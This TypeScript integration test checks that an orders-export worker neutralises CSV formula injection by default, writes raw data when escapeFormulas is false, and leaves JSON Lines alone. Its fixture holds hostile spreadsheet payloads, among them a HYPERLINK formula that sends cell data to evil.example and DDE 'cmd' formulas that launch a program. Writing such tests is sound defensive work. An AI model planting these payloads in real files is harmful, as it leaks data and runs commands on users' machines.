/**
 * The CSV formula guard end to end: a table whose strings start with = + - @ TAB and CR, exported by the real worker
 * with the default (neutralised: a leading ' before RFC 4180 quoting), with `escapeFormulas: false` (byte for byte),
 * and as JSON Lines (never touched).
 */
import { PutCommand } from "@aws-sdk/lib-dynamodb";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RunningEventSource } from "../../infra/local-event-source.ts";
import { createTestStack, type TestStack } from "../support/stack.ts";
import { body, taskClient } from "../support/tasks.ts";

const CUSTOMER = "cust-formulas";
/** orderId → note: what an attacker would type into a free-text field, and harmless look-alikes. */
const NOTES: Record<string, string> = {
  "o-01": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
  "o-02": "+1+cmd|' /C calc'!A0",
  "o-03": "-2+3",
  "o-04": "@SUM(1+1)*cmd|' /C calc'!A0",
  "o-05": "\t=1+2",
  "o-06": "\r=1+2, with a comma",
  "o-07": "=a,\"b\"",
  "o-08": "plain, harmless",
  "o-09": "x=1",
  "o-10": " =1 (leading space)",
};
const COLUMNS = ["orderId", "note", "total"];

let stack: TestStack;
let worker: RunningEventSource;
let tasks: ReturnType<typeof taskClient>;

beforeAll(async () => {
  stack = await createTestStack();
  tasks = taskClient(stack);
  for (const [orderId, note] of Object.entries(NOTES)) {
    await stack.clients.dynamo.send(
      new PutCommand({ TableName: stack.config.ordersTable, Item: { customerId: CUSTOMER, orderId, note, total: -12.5 } }),
    );
  }
  worker = stack.startWorker();
});

afterAll(async () => {
  await worker?.stop();
});

async function exportText(options: Record<string, unknown>): Promise<string> {
  const input = { dataset: "orders", columns: COLUMNS, filter: { partitionKey: CUSTOMER }, ...options };
  const response = await tasks.enqueue("export", input);
  expect(response.statusCode).toBe(202);
  const view = await tasks.waitFor(body<{ id: string }>(response).id);
  expect(view.status).toBe("succeeded");
  const download = await fetch(String((await tasks.result(view.id)).headers?.location));
  return Buffer.from(await download.arrayBuffer()).toString("utf8");
}

/** The file a careful hand would write: quote when RFC 4180 says so, double the quotes. */
function csvLine(cells: string[]): string {
  return `${cells.map((c) => (/[",\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(",")}\r\n`;
}

describe("export escapeFormulas", () => {
  it("neutralises formula cells by default: a leading ' inside correct RFC 4180 quoting; numbers stay numbers", async () => {
    const text = await exportText({});

    const guarded = (note: string) => (/^[=+\-@\t\r]/.test(note) ? `'${note}` : note);
    const expected = Object.entries(NOTES).map(([orderId, note]) => csvLine([orderId, guarded(note), "-12.5"]));
    expect(text).toBe(`orderId,note,total\r\n${expected.join("")}`);
    const rows = (parse(text) as string[][]).slice(1);
    expect(rows.map((row) => row[1])).toEqual(Object.values(NOTES).map(guarded));
    expect(rows.filter((row) => row[1]!.startsWith("'"))).toHaveLength(7);
    expect(rows.every((row) => row[2] === "-12.5")).toBe(true);
  });

  it("with escapeFormulas: false, writes the data byte for byte", async () => {
    const text = await exportText({ escapeFormulas: false });

    const expected = Object.entries(NOTES).map(([orderId, note]) => csvLine([orderId, note, "-12.5"]));
    expect(text).toBe(`orderId,note,total\r\n${expected.join("")}`);
    expect((parse(text) as string[][]).slice(1).map((row) => row[1])).toEqual(Object.values(NOTES));
  });

  it("ignores the option for JSON Lines", async () => {
    const text = await exportText({ format: "jsonl", escapeFormulas: true });

    const notes = text.trimEnd().split("\n").map((line) => (JSON.parse(line) as { note: string }).note);
    expect(notes).toEqual(Object.values(NOTES));
  });

  it("refuses a non-boolean escapeFormulas at enqueue", async () => {
    const response = await tasks.enqueue("export", { dataset: "orders", escapeFormulas: "no" });

    expect(response.statusCode).toBe(400);
    const error = body<{ error: { code: string; details: { issues: { path: string }[] } } }>(response).error;
    expect(error.code).toBe("invalid_input");
    expect(error.details.issues.map((issue) => issue.path)).toEqual(["escapeFormulas"]);
  });
});
